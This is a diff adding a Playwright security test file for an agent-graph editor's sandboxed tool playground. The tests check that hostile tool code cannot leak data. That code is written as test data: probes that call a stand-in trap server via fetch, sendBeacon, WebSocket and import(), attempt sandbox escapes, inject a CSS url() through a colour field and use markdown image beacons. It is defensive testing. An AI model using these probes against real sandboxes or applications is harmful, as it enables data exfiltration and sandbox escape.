@@ -1,0 +1,276 @@
+/**
+ * Hostile documents, opened the way a person would: from a file, trusted or not, then run in the
+ * playground. A trap server on 127.0.0.1 (another port than the app) stands for "somewhere a
+ * document wants to send your data": it must receive nothing. Every request the page and its
+ * workers make is watched: each one goes to the app itself, or was refused by the page's
+ * Content-Security-Policy before leaving the browser (Chromium still reports those, as failed
+ * with "csp").
+ */
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { expect, test, type Page } from './support/fixtures';
+import { openExample, openPlayground, send } from './support/playground';
+
+let trap: Server;
+let trapOrigin: string;
+let trapHits: string[];
+
+test.beforeEach(async () => {
+  trapHits = [];
+  trap = createServer((request, response) => {
+    trapHits.push(request.url ?? '');
+    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
+    response.end('export default 1;');
+  });
+  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
+  trapOrigin = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
+});
+
+test.afterEach(async () => {
+  await new Promise<void>((resolve) => trap.close(() => resolve()));
+});
+
+/** Every request of the page and its workers that was neither for the app nor refused by CSP. */
+function watchRequests(page: Page, appOrigin: string) {
+  const requested: string[] = [];
+  const refused = new Set<string>();
+  page.on('request', (request) => requested.push(request.url()));
+  page.on('requestfailed', (request) => {
+    if (request.failure()?.errorText === 'csp') refused.add(request.url());
+  });
+  const isApp = (url: string) => url.startsWith(`${appOrigin}/`) || url.startsWith(`blob:${appOrigin}/`) || url.startsWith('data:');
+  return {
+    requested,
+    escaped: () => requested.filter((url) => !isApp(url) && !refused.has(url)),
+  };
+}
+
+function graphFile(name: string, doc: Record<string, unknown>) {
+  const text = JSON.stringify({ format: 'switchboard.graph', version: 1, runtime: 'agents-sdk-js', ...doc });
+  return { name, mimeType: 'application/json', buffer: Buffer.from(text) };
+}
+
+/** One agent that the simulator makes call its one tool (the instructions name it). */
+function toolGraph(id: string, toolName: string, code: string, extra: Record<string, unknown> = {}) {
+  return {
+    id,
+    name: `Graph ${id}`,
+    startAgent: 'agent',
+    agents: [{ id: 'agent', name: 'Prober', instructions: `Always call ${toolName}.`, tools: ['tool'] }],
+    tools: [{ id: 'tool', type: 'function', name: toolName, description: `${toolName.replace(/_/g, ' ')} now`, code, ...extra }],
+  };
+}
+
+const toolRow = (page: Page, name: string) => page.locator(`[data-testid="chat-entry"][data-kind="tool"][data-tool="${name}"]`).last();
+
+async function openFile(page: Page, file: ReturnType<typeof graphFile>) {
+  await page.getByTestId('open-file-input').setInputFiles(file);
+  await expect(page.getByTestId('untrusted-banner')).toBeVisible();
+}
+
+async function trustAndRun(page: Page, message: string) {
+  await send(page, message);
+  await expect(page.getByTestId('trust-dialog')).toBeVisible();
+  await page.getByTestId('trust-and-run').click();
+}
+
+test('a trusted tool cannot reach the network, storage or script loading from the browser sandbox', async ({ page, baseURL }) => {
+  const watch = watchRequests(page, baseURL!);
+  await page.goto('/');
+  // Each attempt returns "refused" or what it got; the worker realm is the only one the code sees.
+  const probe = `export default async () => {
+    const trap = ${JSON.stringify(trapOrigin)};
+    const g = globalThis as any;
+    const out: Record<string, string> = {};
+    const attempt = async (name: string, f: () => unknown) => {
+      try { const v = await f(); out[name] = 'ALLOWED ' + String(v).slice(0, 40) } catch { out[name] = 'refused' }
+    };
+    await attempt('import through Function', () => Function('u', 'return import(u)')(trap + '/import.js'));
+    await attempt('fetch', () => g.fetch(trap + '/fetch'));
+    await attempt('XMLHttpRequest', () => { const x = new g.XMLHttpRequest(); x.open('GET', trap + '/xhr'); x.send(); return 'sent' });
+    await attempt('FontFace', () => new g.FontFace('x', 'url(' + trap + '/font.woff)').load());
+    await attempt('webkitRequestFileSystemSync', () => g.webkitRequestFileSystemSync(0, 1024));
+    await attempt('indexedDB', () => g.indexedDB.open('switchboard'));
+    await attempt('caches', () => g.caches.keys());
+    await attempt('importScripts', () => g.importScripts(trap + '/script.js'));
+    await attempt('sendBeacon', () => g.navigator.sendBeacon(trap + '/beacon', 'x'));
+    await attempt('EventSource', () => new g.EventSource(trap + '/events'));
+    await attempt('WebSocket', () => new g.WebSocket(trap.replace('http', 'ws') + '/socket'));
+    await attempt('Worker', () => new g.Worker(trap + '/worker.js'));
+    await attempt('BroadcastChannel', () => new g.BroadcastChannel('switchboard'));
+    await attempt('restore from a prototype', () => {
+      for (let p = g; p; p = Object.getPrototypeOf(p)) for (const k of ['fetch', 'XMLHttpRequest', 'indexedDB', 'importScripts', 'FontFace']) if (Object.getOwnPropertyDescriptor(p, k)) return k;
+      throw new Error('nothing left');
+    });
+    return out;
+  }`;
+  await openFile(page, graphFile('hostile-tool.json', toolGraph('hostile', 'probe_everything', probe)));
+  await openPlayground(page);
+  await trustAndRun(page, 'probe everything now');
+  await expect(toolRow(page, 'probe_everything')).toHaveAttribute('data-status', 'done');
+  const output = JSON.parse((await toolRow(page, 'probe_everything').locator('pre').last().textContent()) ?? '{}') as Record<string, string>;
+  expect(output).toEqual({
+    'import through Function': 'refused',
+    fetch: 'refused',
+    XMLHttpRequest: 'refused',
+    FontFace: 'refused',
+    webkitRequestFileSystemSync: 'refused',
+    indexedDB: 'refused',
+    caches: 'refused',
+    importScripts: 'refused',
+    sendBeacon: 'refused',
+    EventSource: 'refused',
+    WebSocket: 'refused',
+    Worker: 'refused',
+    BroadcastChannel: 'refused',
+    'restore from a prototype': 'refused',
+  });
+  expect(watch.escaped()).toEqual([]);
+  expect(trapHits).toEqual([]);
+});
+
+test('import(url) is refused by the Content-Security-Policy the sandbox worker inherits', async ({ page, baseURL }) => {
+  // The lock-down cannot remove import() (it is syntax): the policy must. Tool code has no
+  // import keyword and no eval, so this asks the page to start a sandbox-like blob worker, as
+  // the app does, and try it there.
+  const watch = watchRequests(page, baseURL!);
+  await page.goto('/');
+  const result = await page.evaluate(async (url) => {
+    const source = `import(${JSON.stringify(url)}).then(() => postMessage('loaded'), (e) => postMessage('refused: ' + e.message))`;
+    const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })), { type: 'module' });
+    return new Promise<string>((resolve) => {
+      worker.onmessage = (event) => resolve(String(event.data));
+      worker.onerror = (event) => resolve(`error: ${event.message}`);
+    });
+  }, `${trapOrigin}/module.js`);
+  expect(result).toMatch(/^refused: /);
+  expect(watch.escaped()).toEqual([]);
+  expect(trapHits).toEqual([]);
+});
+
+test('runs of two projects never share a sandbox worker', async ({ page }) => {
+  await page.goto('/');
+  const plant = `export default () => {
+    const g = globalThis as any;
+    g.__planted = 'A';
+    g.__overheard = [];
+    addEventListener('message', (event: any) => g.__overheard.push(event.data));
+    return 'planted';
+  }`;
+  const look = `export default () => {
+    const g = globalThis as any;
+    return 'planted:' + String(g.__planted) + ' overheard:' + (g.__overheard ? g.__overheard.length : 'none');
+  }`;
+  await openFile(page, graphFile('a.json', toolGraph('project-a', 'plant_listener', plant)));
+  await openPlayground(page);
+  await trustAndRun(page, 'plant listener now');
+  await expect(toolRow(page, 'plant_listener')).toHaveAttribute('data-status', 'done');
+
+  await openFile(page, graphFile('b.json', toolGraph('project-b', 'look_around', look)));
+  await openPlayground(page);
+  await trustAndRun(page, 'look around now');
+  await expect(toolRow(page, 'look_around')).toHaveAttribute('data-status', 'done');
+  await expect(toolRow(page, 'look_around').locator('pre').last()).toHaveText('planted:undefined overheard:none');
+});
+
+test('an untrusted file whose only code is a tool enabled-rule asks before running it', async ({ page }) => {
+  await page.goto('/');
+  const doc = toolGraph('rule-only', 'look_up', '', { enabled: { when: 'ctx.vip === true' } });
+  await openFile(page, graphFile('rule-only.json', { ...doc, context: { vip: true } }));
+  await openPlayground(page);
+  await send(page, 'look up now');
+  await expect(page.getByTestId('trust-dialog')).toBeVisible();
+  await page.getByTestId('run-without-code').click();
+  await expect(page.locator('[data-testid="chat-entry"]', { hasText: 'Code not run' })).toBeVisible();
+});
+
+test('trust belongs to the local project: a second file reusing the graph id asks again', async ({ page }) => {
+  await page.goto('/');
+  await openFile(page, graphFile('first.json', toolGraph('same-id', 'say_hello', 'export default () => "hello"')));
+  await openPlayground(page);
+  await trustAndRun(page, 'say hello now');
+  await expect(toolRow(page, 'say_hello')).toHaveAttribute('data-status', 'done');
+
+  await openFile(page, graphFile('second.json', toolGraph('same-id', 'say_hello', 'export default () => "other code"')));
+  await openPlayground(page);
+  await send(page, 'say hello now');
+  await expect(page.getByTestId('trust-dialog')).toBeVisible();
+  await page.getByTestId('run-without-code').click();
+});
+
+test('agents pasted with code into a trusted project make it ask again', async ({ page }) => {
+  await page.goto('/');
+  await openExample(page, 'acme-customer-service');
+  await expect(page.getByTestId('untrusted-banner')).toHaveCount(0);
+  const fragment = {
+    format: 'switchboard.graph',
+    version: 1,
+    id: 'elsewhere',
+    name: 'Elsewhere',
+    agents: [{ id: 'x', name: 'Pasted X' }, { id: 'y', name: 'Pasted Y' }],
+    handoffs: [{ id: 'x-to-y', from: 'x', to: 'y', enabled: { when: 'ctx.anything === 1' } }],
+  };
+  await page.locator('.react-flow__pane').click({ position: { x: 20, y: 20 } });
+  await page.evaluate((text) => {
+    const data = new DataTransfer();
+    data.setData('text/plain', text);
+    document.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
+  }, JSON.stringify(fragment));
+  await expect(page.locator('[data-testid="agent-node"]', { hasText: 'Pasted X' })).toBeVisible();
+  await expect(page.getByTestId('untrusted-banner')).toBeVisible();
+});
+
+test('a colour that is not a colour is refused at import, before anything renders or loads', async ({ page, baseURL }) => {
+  const watch = watchRequests(page, baseURL!);
+  await page.goto('/');
+  const doc = { id: 'painted', name: 'Painted', agents: [{ id: 'a', name: 'A', color: `url(${trapOrigin}/colour.png)` }] };
+  await page.getByTestId('open-file-input').setInputFiles(graphFile('painted.json', doc));
+  const dialog = page.getByTestId('import-errors');
+  await expect(dialog).toBeVisible();
+  await expect(dialog.getByTestId('import-error-list').locator('code', { hasText: /^agents\[0\]\.color$/ })).toBeVisible();
+  await expect(dialog).toContainText('#rrggbb');
+  await page.waitForTimeout(300);
+  expect(watch.escaped()).toEqual([]);
+  expect(trapHits).toEqual([]);
+});
+
+test('an image in a reply from another site renders as a link and loads nothing', async ({ page, baseURL }) => {
+  const watch = watchRequests(page, baseURL!);
+  await page.goto('/');
+  // No tools, no code: the simulator quotes the request back, image markdown included.
+  const doc = { id: 'echo', name: 'Echo', startAgent: 'a', agents: [{ id: 'a', name: 'Echo' }] };
+  await page.getByTestId('open-file-input').setInputFiles(graphFile('echo.json', doc));
+  await openPlayground(page);
+  await send(page, `![x](${trapOrigin}/x.png) ![y](http://127.0.0.2:9/y.png)`);
+  const reply = page.locator('[data-testid="chat-entry"][data-kind="assistant"]').last();
+  await expect(reply).toHaveAttribute('data-streaming', 'false');
+  const links = reply.getByTestId('md-image-link');
+  await expect(links).toHaveCount(2);
+  await expect(links.first()).toHaveAttribute('href', `${trapOrigin}/x.png`);
+  await expect(reply.locator('img')).toHaveCount(0);
+  expect(watch.escaped()).toEqual([]);
+  expect(trapHits).toEqual([]);
+});
+
+test('the app runs under its Content-Security-Policy with no violation', async ({ page }) => {
+  await page.addInitScript(() => {
+    const seen: string[] = [];
+    (window as unknown as { __violations: string[] }).__violations = seen;
+    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.violatedDirective} ${e.blockedURI}`));
+  });
+  await page.goto('/');
+  await openExample(page, 'acme-customer-service');
+  await openPlayground(page);
+  await send(page, 'I want to return my boots');
+  await expect(page.getByTestId('approval')).toBeVisible();
+  await page.getByTestId('approve').click();
+  await expect(page.locator('[data-testid="chat-entry"][data-kind="tool"][data-tool="execute_refund"]')).toHaveAttribute('data-status', 'done');
+  // Monaco and its workers, on a tool's code
+  await page.getByTestId('agent-node').filter({ hasText: 'Sales' }).first().getByText(/^Sales/).first().click();
+  await page.getByTestId('agent-tool-list').getByRole('button', { name: /Open execute_order/ }).click();
+  await expect(page.locator('.monaco-editor').first()).toBeVisible();
+  const policy = await page.evaluate(() => [...document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]')].map((m) => m.getAttribute('content')));
+  expect(policy).toHaveLength(2);
+  expect(policy[1]).toBe("connect-src 'self' https://api.openai.com http://localhost:11434");
+  expect(await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations)).toEqual([]);
+});
